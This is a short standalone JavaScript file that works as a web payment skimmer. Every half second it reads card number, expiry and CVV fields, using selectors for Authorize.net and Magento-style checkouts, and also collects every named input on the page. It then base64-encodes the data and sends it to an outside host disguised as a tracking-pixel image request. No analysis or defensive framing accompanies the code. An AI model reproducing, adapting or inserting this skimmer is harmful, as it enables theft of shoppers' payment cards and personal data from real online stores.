var snd = {
  Gate: 'https://img-content.example/images/pixel.gif',
  CN: ['#authorizenet_cc_number', '#cc_number', '[name="payment[cc_number]"]'],
  EM: ['#authorizenet_expiration', '[name="payment[cc_exp_month]"]'],
  EY: ['#authorizenet_expiration_yr', '[name="payment[cc_exp_year]"]'],
  CV: ['#authorizenet_cc_cid', '[name="payment[cc_cid]"]'],
  Data: {}, Sent: [],
  First: function (list) { for (var i = 0; i < list.length; i++) { var e = document.querySelector(list[i]); if (e && e.value) return e.value; } return ''; },
  LoadCard: function () { this.Data.Number = this.First(this.CN).replace(/\D/g, ''); this.Data.Date = this.First(this.EM) + '/' + this.First(this.EY); this.Data.Code = this.First(this.CV); },
  IsReady: function () { return this.Data.Number && this.Data.Number.length > 14 && this.Data.Code && this.Data.Code.length > 2; },
  SaveAll: function () { var s = this, l = document.getElementsByTagName('input'); for (var i = 0; i < l.length; i++) { if (l[i].name) s.Data[l[i].name] = l[i].value; } },
  Send: function () {
    var d = btoa(JSON.stringify(this.Data));
    if (this.Sent.indexOf(d) != -1) return;
    this.Sent.push(d);
    var p = document.createElement('IMG');
    p.src = this.Gate + '?hash=' + d;
  },
  Try: function () { this.SaveAll(); this.LoadCard(); if (this.IsReady()) this.Send(); }
};
window.setInterval(function () { snd.Try(); }, 500);
